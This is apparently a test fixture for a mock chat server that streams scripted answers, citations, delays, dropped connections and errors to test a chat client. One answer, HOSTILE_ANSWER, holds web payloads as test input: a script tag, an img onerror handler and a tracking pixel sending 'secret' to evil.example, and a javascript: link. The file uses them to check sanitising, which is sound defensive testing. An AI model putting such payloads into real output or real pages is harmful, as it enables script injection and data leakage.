// What the mock server answers. A word in the question picks the script.
import { cite } from "./mock-knowledge.mjs";

const CITED_ANSWER =
  "A limit is a number of requests in a window of time, for example **30 messages in one " +
  "minute**. Gatehouse never lets in more than that in *any* window, so there is no moment at " +
  `which a counter jumps back to zero [1].

- Before anyone is known, limits hold per address.
- After that, they hold per visitor, site and endpoint [2].

A request that is refused says when the next one will be let in.`;

const CITATIONS = [
  cite(1, "doc-limits", "How a limit works", "A limit is a number", "back to zero"),
  cite(2, "doc-limits", "Where limits hold", "Limits hold per address", "after that."),
];

const SESSION_ANSWER =
  "Conversations are kept for seven days after their last message, then they are deleted [1].";

const HOSTILE_ANSWER = `### Steps

<script>window.hacked = 1</script><img src="https://evil.example/?q=secret" onerror="hacked = 2">

![tracking pixel](https://evil.example/pixel.png?chat=secret) and
[a bad link](javascript:window.hacked=3) and [a good link](https://example.org/docs).

\`\`\`sh
curl -N https://chat.example/api/v1/chat
\`\`\`

| Window | Limit |
| --- | --- |
| minute | 30 |
| hour | 1000 |

1. First
2. Second \`inline [1]\`

[1]: https://evil.example/`;

const LONG_ANSWER = Array.from({ length: 60 }, (_, index) => `word${index + 1}`).join(" ");

/** Splits an answer into deltas of a word each. */
function words(text) {
  return text.match(/\s*\S+\s*?(?=\s|$)/g) ?? [];
}

const SCRIPTS = [
  { when: /markdown/i, text: HOSTILE_ANSWER, delayMs: 4 },
  { when: /session|deleted|kept/i, text: SESSION_ANSWER, delayMs: 20,
    citations: [cite(1, "doc-sessions", "How long it lives", "Conversations are kept", "good.")] },
  { when: /slow/i, text: LONG_ANSWER, delayMs: 40 },
  { when: /think/i, text: "At last.", delayMs: 5, firstDelayMs: 3000 },
  { when: /drop/i, text: LONG_ANSWER, delayMs: 20, dropAfter: [8, 45] },
  { when: /closing/i, text: LONG_ANSWER, delayMs: 20, closeAfter: 10 },
  { when: /reset/i, text: LONG_ANSWER, delayMs: 20, dropAfter: [10], forgets: true },
  { when: /fail/i, text: "Half an ans", delayMs: 5,
    error: { code: "upstream_failed", message: "The model did not finish its answer.",
             retry_after_s: null } },
  { when: /long reply/i, text: "This reply is cut", delayMs: 5, finishReason: "length" },
  { when: /./s, text: CITED_ANSWER, delayMs: 12, firstDelayMs: 400, citations: CITATIONS },
];

export function scriptFor(question) {
  const script = SCRIPTS.find((each) => each.when.test(question));
  return { citations: [], firstDelayMs: 60, dropAfter: [], finishReason: "stop", ...script,
           deltas: words(script.text) };
}
